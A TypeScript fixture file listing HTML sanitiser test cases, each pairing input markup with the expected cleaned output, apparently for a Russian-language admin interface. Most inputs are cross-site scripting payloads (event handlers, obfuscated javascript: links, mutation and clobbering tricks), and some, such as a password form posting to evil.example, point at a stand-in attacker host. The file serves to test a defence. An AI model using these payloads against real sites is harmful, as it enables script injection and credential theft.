interface SanitiserCase {
  name: string
  html: string
  /** What is left, written as the browser serialises it. */
  safe: string
}

/** What the sanitiser keeps and what it takes off. The gallery shows each one sanitised; a browser test compares. */
export const sanitiserCases: readonly SanitiserCase[] = [
  { name: 'plain text', html: 'Обновлена тема', safe: 'Обновлена тема' },
  { name: 'an ampersand and a comparison', html: 'А & Б, 2 < 3', safe: 'А &amp; Б, 2 &lt; 3' },
  {
    name: 'emphasis',
    html: '<b>А</b> <strong>Б</strong> <i>В</i> <em>Г</em>',
    safe: '<b>А</b> <strong>Б</strong> <i>В</i> <em>Г</em>',
  },
  { name: 'a list', html: '<ul><li>Имя</li><li>Почта</li></ul>', safe: '<ul><li>Имя</li><li>Почта</li></ul>' },
  { name: 'a paragraph, a break, code', html: '<p>А<br>Б</p><code>C5</code>', safe: '<p>А<br>Б</p><code>C5</code>' },
  {
    name: 'a link within the site',
    html: '<a href="/sm-admin/users">Список</a>',
    safe: '<a href="/sm-admin/users">Список</a>',
  },
  {
    name: 'an https link',
    html: '<a href="https://example.org/">Сайт</a>',
    safe: '<a href="https://example.org/">Сайт</a>',
  },
  { name: 'a script', html: 'А<script>alert(1)</script>Б', safe: 'АБ' },
  { name: 'a script in capitals', html: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>А', safe: 'А' },
  { name: 'a broken tag', html: '<<b>script>alert(1)', safe: '&lt;<b>script&gt;alert(1)</b>' },
  { name: 'an image with a handler', html: '<img src=x onerror=alert(1)>А', safe: 'А' },
  { name: 'a handler on an allowed tag', html: '<b onclick="alert(1)" onmouseover=alert(2)>А</b>', safe: '<b>А</b>' },
  {
    name: 'a focus handler',
    html: '<a href="/x" onfocus=alert(1) autofocus tabindex=1>А</a>',
    safe: '<a href="/x">А</a>',
  },
  { name: 'an svg with a handler', html: '<svg onload=alert(1)><text>А</text></svg>', safe: '' },
  {
    name: 'svg animation of a link',
    html: '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
    safe: '',
  },
  { name: 'mathml', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', safe: '' },
  { name: 'a javascript link', html: '<a href="javascript:alert(1)">А</a>', safe: '<a>А</a>' },
  { name: 'a javascript link in mixed case', html: '<a href="JaVaScRiPt:alert(1)">А</a>', safe: '<a>А</a>' },
  { name: 'a javascript link with a tab', html: '<a href="java&#9;script:alert(1)">А</a>', safe: '<a>А</a>' },
  { name: 'a javascript link in entities', html: '<a href="&#106;avascript:alert(1)">А</a>', safe: '<a>А</a>' },
  { name: 'a javascript link after a control', html: '<a href="&#1;javascript:alert(1)">А</a>', safe: '<a>А</a>' },
  { name: 'a data link', html: '<a href="data:text/html,<script>alert(1)</script>">А</a>', safe: '<a>А</a>' },
  { name: 'a vbscript link', html: '<a href="vbscript:msgbox(1)">А</a>', safe: '<a>А</a>' },
  { name: 'a plain http link', html: '<a href="http://example.org/">А</a>', safe: '<a>А</a>' },
  { name: 'a link to another host without a scheme', html: '<a href="//evil.example/">А</a>', safe: '<a>А</a>' },
  { name: 'a link to another host by a backslash', html: '<a href="/\\evil.example/">А</a>', safe: '<a>А</a>' },
  { name: 'a link to another host by a tab', html: '<a href="/&#9;/evil.example/">А</a>', safe: '<a>А</a>' },
  {
    name: 'a link that opens a window',
    html: '<a href="/x" target="_blank" rel="opener" download>А</a>',
    safe: '<a href="/x">А</a>',
  },
  { name: 'a style attribute', html: '<p style="position:fixed;inset:0">А</p>', safe: '<p>А</p>' },
  { name: 'a style sheet', html: '<style>*{display:none}</style>А', safe: 'А' },
  {
    name: 'a class, an id, data',
    html: '<p class="fixed" id="root" data-x="1" aria-hidden="true">А</p>',
    safe: '<p>А</p>',
  },
  { name: 'a form', html: '<form action="//evil.example"><input name=password><button>А</button></form>', safe: 'А' },
  { name: 'a frame', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>А', safe: 'А' },
  { name: 'an object and an embed', html: '<object data="x.swf"></object><embed src="x.swf">А', safe: 'А' },
  {
    name: 'a base and a meta',
    html: '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">А',
    safe: 'А',
  },
  { name: 'a comment', html: 'А<!-- <script>alert(1)</script> -->Б', safe: 'АБ' },
  { name: 'a template', html: '<template><script>alert(1)</script></template>А', safe: 'А' },
  { name: 'noscript mutation', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', safe: '<p></p>' },
  { name: 'clobbering', html: '<b id="sanitize" name="body">А</b>', safe: '<b>А</b>' },
]
